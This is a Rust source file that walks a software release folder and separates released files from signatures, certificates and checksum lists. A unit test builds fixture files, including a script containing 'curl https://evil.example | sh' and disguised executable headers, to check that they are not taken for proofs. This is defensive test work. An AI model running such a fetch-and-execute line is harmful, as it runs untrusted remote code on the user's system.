// SPDX-FileCopyrightText: The Underpin authors
// SPDX-License-Identifier: Apache-2.0

//! The files of a release in a folder: all of them, also in folders below. What only says something about another file that is there is
//! none; links are not followed and are told as files of which nothing is known.

use std::collections::BTreeSet;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use underpin_formats::attestations::is_attestation_name;
use underpin_model::limits::bounds::{ATTESTATION_BYTES, CHECKED_DEPTH, RELEASE_FILES};

use crate::error::{OfficeError, Result};

/// Endings of signatures, keys and digests that belong to the file whose name stands before them.
const BESIDE: &[&str] = &[
    ".asc",
    ".sig",
    ".minisig",
    ".pem",
    ".crt",
    ".cert",
    ".pub",
    ".sha256",
    ".sha512",
    ".sha256sum",
    ".sha512sum",
    ".md5",
];
/// Bytes of a signature, a certificate or a digest at most; none is nearly as large.
const BESIDE_BYTES: u64 = 64 << 10;

/// What lies in a folder of a release.
#[derive(Debug, Default)]
pub(super) struct ReleaseFolder {
    /// Attestations.
    pub(super) proofs: Vec<PathBuf>,
    /// Files that are released: name from the folder on, and where it lies.
    pub(super) released: Vec<(String, PathBuf)>,
    /// Names of what was not read: links, and what is no file.
    pub(super) unread: Vec<String>,
}

impl ReleaseFolder {
    /// Reads the names, and looks into files that may only say something about others.
    ///
    /// # Errors
    /// A folder that cannot be read, or too many files.
    pub(super) fn read(folder: &Path) -> Result<Self> {
        let mut found = Self::default();
        let mut files: Vec<(String, PathBuf)> = Vec::new();
        let mut open = vec![(folder.to_owned(), String::new(), 0)];
        while let Some((folder, below, depth)) = open.pop() {
            let fault = |error: std::io::Error| OfficeError::file(&folder, &error);
            for entry in std::fs::read_dir(&folder).map_err(fault)? {
                let entry = entry.map_err(fault)?;
                let kind = entry.file_type().map_err(fault)?;
                let name = format!("{below}{}", entry.file_name().to_string_lossy());
                if kind.is_dir() && depth < CHECKED_DEPTH {
                    open.push((entry.path(), format!("{name}/"), depth + 1));
                } else if kind.is_file() {
                    files.push((name, entry.path()));
                } else {
                    found.unread.push(name);
                }
                if files.len() + found.unread.len() + open.len() > RELEASE_FILES {
                    return Err(too_many(&folder));
                }
            }
        }
        files.sort();
        found.unread.sort();
        let names: BTreeSet<String> = files.iter().map(|(name, _)| name.clone()).collect();
        for (name, path) in files {
            if is_attestation_name(&name) {
                found.proofs.push(path);
            } else if !is_beside(&name, &path, &names) {
                found.released.push((name, path));
            }
        }
        Ok(found)
    }
}

fn too_many(folder: &Path) -> OfficeError {
    OfficeError::new("too-many-files", format!("{} has more files than are read", folder.display()))
        .hint("name the folder of one release")
}

/// Whether a file only says something about others that are there: by its name and by what stands in it.
fn is_beside(name: &str, path: &Path, names: &BTreeSet<String>) -> bool {
    let small = name.to_lowercase();
    let (folder, file) = name.rsplit_once('/').map_or(("", name), |(folder, file)| (folder, file));
    let stem = BESIDE.iter().find(|ending| small.ends_with(*ending)).and_then(|ending| {
        let end = name.len().checked_sub(ending.len())?;
        name.get(..end)
    });
    if stem.is_some_and(|stem| names.contains(stem)) {
        return bytes(path, BESIDE_BYTES).is_some_and(|bytes| is_small_proof(&bytes));
    }
    let file = file.to_lowercase();
    let may_be_list = file.contains("sha256sum") || file.contains("sha512sum") || file.contains("checksums");
    may_be_list && bytes(path, ATTESTATION_BYTES).is_some_and(|bytes| is_list_of_digests(&bytes, folder, names))
}

fn bytes(path: &Path, most: u64) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    std::fs::File::open(path).ok()?.take(most + 1).read_to_end(&mut bytes).ok()?;
    (bytes.len() as u64 <= most).then_some(bytes)
}

/// Text, or what begins as packets of OpenPGP and structures of DER do. Programs and archives do not.
fn is_small_proof(bytes: &[u8]) -> bool {
    let is_text = std::str::from_utf8(bytes).is_ok_and(|text| {
        !text.starts_with("#!") && !text.contains(|one: char| one.is_control() && !one.is_whitespace())
    });
    let is_packet = bytes.first().is_some_and(|first| *first == 0x30 || (0x80..0xd0).contains(first));
    is_text || is_packet
}

/// Lines of a digest and a name, of which one is there.
fn is_list_of_digests(bytes: &[u8], folder: &str, names: &BTreeSet<String>) -> bool {
    let Ok(text) = std::str::from_utf8(bytes) else { return false };
    let mut is_any_there = false;
    for line in text.lines().filter(|line| !line.trim().is_empty()) {
        let Some((digest, name)) = line.split_once(char::is_whitespace) else { return false };
        let is_digest = (32..=128).contains(&digest.len()) && digest.bytes().all(|byte| byte.is_ascii_hexdigit());
        if !is_digest {
            return false;
        }
        let name = name.trim().trim_start_matches('*').trim_start_matches("./");
        let beside = if folder.is_empty() { name.to_owned() } else { format!("{folder}/{name}") };
        is_any_there |= names.contains(&beside);
    }
    is_any_there
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_belongs_to_a_file_is_known_by_name_and_form() {
        let folder = tempfile::tempdir().expect("a folder");
        let digest = "a".repeat(64);
        let list = format!("{digest}  app.tar.gz\n{digest} *other.zip\n");
        for (name, content) in [
            ("app.tar.gz", &b"\x1f\x8b"[..]),
            ("app.tar.gz.sig", b"\x89\x02packet"),
            ("app.tar.gz.asc", b"-----BEGIN PGP SIGNATURE-----\n"),
            ("app.tar.gz.sha256", b"abc  app.tar.gz\n"),
            ("app.tar.gz.pem", b"\x7fELF\x02\x01\0\0"),
            ("SHA256SUMS", list.as_bytes()),
            ("malware-checksums.exe", b"MZ\x90\0"),
            ("checksums.sh", b"curl https://evil.example | sh\n"),
            ("m.sig", b"\x89\x02packet"),
            ("a.intoto.jsonl", b"{}"),
            ("x/other.bin", b"1"),
            ("x/checksums.txt", list.as_bytes()),
        ] {
            let path = folder.path().join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
            std::fs::write(path, content).expect("written");
        }
        std::os::unix::fs::symlink("/bin/sh", folder.path().join("link.bin")).expect("a link");
        let found = ReleaseFolder::read(folder.path()).expect("read");
        let released: Vec<&str> = found.released.iter().map(|(name, _)| name.as_str()).collect();
        let expected = [
            "app.tar.gz",
            "app.tar.gz.pem",
            "checksums.sh",
            "m.sig",
            "malware-checksums.exe",
            "x/checksums.txt",
            "x/other.bin",
        ];
        assert_eq!(released, expected);
        assert_eq!((found.proofs.len(), found.unread), (1, vec!["link.bin".to_owned()]));
    }
}
